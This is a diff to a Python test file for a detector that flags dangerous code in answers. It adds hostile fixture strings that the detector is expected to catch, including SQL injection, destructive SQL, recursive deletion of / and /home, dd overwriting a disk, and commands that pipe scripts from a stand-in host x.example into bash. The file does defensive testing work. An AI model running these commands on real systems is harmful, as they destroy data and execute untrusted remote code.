@@ -190,6 +190,7 @@ def test_ordinary_links_and_code_in_an_answer_are_let_be() -> None:
         "see https://docs.example/en/latest/how-to-configure-the-gateway.html",
         "[a](https://example.com/questions/1234/how-do-i-rotate-a-key?page=2)",
         "a < b, the option on = true, SELECT name FROM users; union of two sets",
+        "delete from users where id = 7; alter table users add mail text; rm -i a.txt; curl x.example/i.sh",
     ):
         assert found("links", text) == {}
         assert found("code", text) == {}
@@ -205,7 +206,14 @@ def test_ordinary_links_and_code_in_an_answer_are_let_be() -> None:
         ("sql", "'; DROP TABLE users; --"),
         ("sql", "1 UNION SELECT password"),
         ("shell", "curl -s https://x.example/i.sh | sudo bash"),
+        ("sql", "delete from users where 1 = 1"),
+        ("sql", "ALTER TABLE users DROP COLUMN mail"),
         ("shell", "rm -rf / --no-preserve-root"),
+        ("shell", "rm -r -f /home"),
+        ("shell", "rm -v --recursive --force '/home'"),
+        ("shell", 'bash -c "$(curl -fsSL https://x.example)"'),
+        ("shell", "sh <(wget -qO- https://x.example)"),
+        ("shell", "dd if=/dev/zero of=/dev/sda"),
     ],
 )
 def test_code_that_acts_is_found(category: str, text: str) -> None:
